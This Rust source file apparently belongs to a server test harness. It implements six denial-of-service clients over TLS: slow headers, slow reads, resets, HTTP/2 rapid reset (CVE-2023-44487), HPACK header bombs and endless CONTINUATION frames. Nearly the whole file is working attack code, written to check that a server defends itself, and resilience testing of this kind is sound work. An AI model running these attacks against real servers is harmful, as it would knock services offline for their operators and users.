//! Clients that mean no good, over TLS: `attack-clients KIND ADDRESS SECONDS`, a process in the
//! client's namespace.
//!
//! Rates are such that the attacks take little of the link and of a processor by themselves: what
//! others notice is then the server's doing. A server that refuses or hangs up has defended itself,
//! and the attack goes on with a new connection.

use std::io::{Read, Write};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Context;
use rustls::ClientConfig;

use super::frames;
use super::secure::{self, Protocol, Secured};

/// The file that the clients request.
const PATH: &str = "/hostile.bin";
/// Connections that are held open by the kinds that hold them.
const HELD: usize = 50;
/// Connections a second by the kinds that make new ones.
const PER_SEC: u32 = 5;
/// Streams of one connection that is not read.
const STREAMS: u32 = 20;
/// Streams that one connection asks for and resets at once.
const RESETS: u32 = 200;
/// How often a header bomb names its large field: 12 000 x 3.9 kB.
const BOMB_TIMES: usize = 12_000;
/// Frames of 16 KiB of a head that does not end.
const ENDLESS_FRAMES: u32 = 64;
/// A receive buffer of a few packets.
const SMALL_BUFFER_BYTES: usize = 4_096;
type Attack = fn(SocketAddr, Instant) -> anyhow::Result<u32>;

/// The kinds of attack by name.
pub const KINDS: [(&str, Attack); 6] = [
    ("slow-header", slow_header),
    ("slow-read", slow_read),
    ("reset", reset),
    ("rapid-reset", rapid_reset),
    ("header-bomb", header_bomb),
    ("endless-head", endless_head),
];

/// Attacks for a while; fails when not one connection could be made, because then nothing was
/// attacked.
pub fn run(arguments: &[&str]) -> anyhow::Result<()> {
    let [kind, address, seconds] = arguments else {
        anyhow::bail!("attack-clients KIND ADDRESS SECONDS")
    };
    let (_, attack) = KINDS
        .iter()
        .find(|(name, _)| name == kind)
        .context("no such kind of attack")?;
    let end = Instant::now() + Duration::from_secs(seconds.parse()?);
    let connections = attack(address.parse()?, end)?;
    anyhow::ensure!(connections > 0, "no connection could be made");
    Ok(())
}

/// Heads that come one byte a second.
fn slow_header(address: SocketAddr, end: Instant) -> anyhow::Result<u32> {
    let mut held = Held::new(address, Protocol::Http1, None, || {
        format!("GET {PATH} HTTP/1.1\r\nHost: test\r\nX-Slow: ").into_bytes()
    })?;
    while Instant::now() < end {
        held.each(|connection| {
            connection.write_all(b"x")?;
            connection.flush()
        });
        std::thread::sleep(Duration::from_secs(1));
    }
    Ok(held.made)
}

/// Responses that are read a kilobyte a second, and streams with a window that stays shut.
fn slow_read(address: SocketAddr, end: Instant) -> anyhow::Result<u32> {
    let mut shut = Held::new(address, Protocol::Http2, None, || {
        let gets = (0..STREAMS).flat_map(|nth| frames::get(2 * nth + 1, PATH));
        frames::opening(0).into_iter().chain(gets).collect()
    })?;
    let mut slow = Held::new(address, Protocol::Http1, Some(SMALL_BUFFER_BYTES), || {
        format!("GET {PATH} HTTP/1.1\r\nHost: test\r\n\r\n").into_bytes()
    })?;
    let mut buffer = [0; 1_024];
    while Instant::now() < end {
        let start = Instant::now();
        slow.each(|connection| match connection.read(&mut buffer) {
            Ok(0) => Err(std::io::ErrorKind::UnexpectedEof.into()),
            Ok(_) => Ok(()),
            // Its turn has not come.
            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => Ok(()),
            Err(error) => Err(error),
        });
        shut.each(|_| Ok(()));
        std::thread::sleep(Duration::from_secs(1).saturating_sub(start.elapsed()));
    }
    Ok(shut.made + slow.made)
}

/// Connections that are closed with bytes unread, which resets them; with a small buffer, or they
/// would take a real share of the link.
fn reset(address: SocketAddr, end: Instant) -> anyhow::Result<u32> {
    regularly(
        address,
        Protocol::Http1,
        Some(SMALL_BUFFER_BYTES),
        end,
        |connection| {
            let request = format!("GET {PATH} HTTP/1.1\r\nHost: test\r\n\r\n");
            connection.write_all(request.as_bytes())?;
            connection.flush()?;
            connection.read(&mut [0; 100]).map(|_| ())
        },
    )
}

/// Streams that the client requests and resets at once (CVE-2023-44487).
fn rapid_reset(address: SocketAddr, end: Instant) -> anyhow::Result<u32> {
    regularly(address, Protocol::Http2, None, end, |connection| {
        let pairs = (0..RESETS).flat_map(|nth| {
            let id = 2 * nth + 1;
            [frames::get(id, PATH), frames::reset(id)].concat()
        });
        let bytes: Vec<u8> = frames::opening(65_535).into_iter().chain(pairs).collect();
        connection.write_all(&bytes)?;
        connection.flush()
    })
}

/// Heads that unpack to megabytes (CVE-2016-6581).
fn header_bomb(address: SocketAddr, end: Instant) -> anyhow::Result<u32> {
    regularly(address, Protocol::Http2, None, end, |connection| {
        let bomb = frames::bomb(1, PATH, BOMB_TIMES);
        connection.write_all(&[frames::opening(65_535), bomb].concat())?;
        connection.flush()
    })
}

/// Heads that go on in frame after frame (CVE-2024-27316 and its kin).
fn endless_head(address: SocketAddr, end: Instant) -> anyhow::Result<u32> {
    regularly(address, Protocol::Http2, None, end, |connection| {
        let start = frames::unfinished_get(1, PATH);
        connection.write_all(&[frames::opening(65_535), start].concat())?;
        let more = frames::continuation(1, &frames::field("x-endless", &[b'x'; 16_000]));
        for _ in 0..ENDLESS_FRAMES {
            connection.write_all(&more)?;
        }
        connection.flush()
    })
}

/// Makes `PER_SEC` connections a second and does `harm` on each; gives how many were made.
fn regularly(
    address: SocketAddr,
    protocol: Protocol,
    receive_bytes: Option<usize>,
    end: Instant,
    harm: impl Fn(&mut Secured) -> std::io::Result<()>,
) -> anyhow::Result<u32> {
    let config = secure::config(protocol)?;
    let pause = Duration::from_secs(1) / PER_SEC;
    let mut made = 0;
    let mut last = None;
    while Instant::now() < end {
        let start = Instant::now();
        // The one before has had until now to be looked at.
        drop(last.take());
        if let Ok(mut connection) = secure::connect(&config, address, receive_bytes) {
            made += 1;
            // Refused is what it should be.
            let _ = harm(&mut connection);
            last = Some(connection);
        }
        std::thread::sleep(pause.saturating_sub(start.elapsed()));
    }
    Ok(made)
}

/// Connections that are held, each made again when the server ends it.
struct Held<Opening: Fn() -> Vec<u8>> {
    address: SocketAddr,
    config: Arc<ClientConfig>,
    receive_bytes: Option<usize>,
    opening: Opening,
    connections: Vec<Option<Secured>>,
    made: u32,
}

impl<Opening: Fn() -> Vec<u8>> Held<Opening> {
    /// Makes them; each says `opening` first.
    fn new(
        address: SocketAddr,
        protocol: Protocol,
        receive_bytes: Option<usize>,
        opening: Opening,
    ) -> anyhow::Result<Self> {
        let mut held = Self {
            address,
            config: secure::config(protocol)?,
            receive_bytes,
            opening,
            connections: Vec::new(),
            made: 0,
        };
        held.connections.resize_with(HELD, || None);
        held.each(|_| Ok(()));
        Ok(held)
    }

    /// Does `act` on each, and makes those again that are not there or that it failed on.
    fn each(&mut self, mut act: impl FnMut(&mut Secured) -> std::io::Result<()>) {
        for nth in 0..self.connections.len() {
            let lives = match &mut self.connections[nth] {
                Some(connection) => act(connection).is_ok(),
                None => false,
            };
            if !lives {
                self.connections[nth] = self.again();
            }
        }
    }

    fn again(&mut self) -> Option<Secured> {
        let mut connection =
            secure::connect(&self.config, self.address, self.receive_bytes).ok()?;
        connection.write_all(&(self.opening)()).ok()?;
        connection.flush().ok()?;
        connection.sock.set_nonblocking(true).ok()?;
        self.made += 1;
        Some(connection)
    }
}
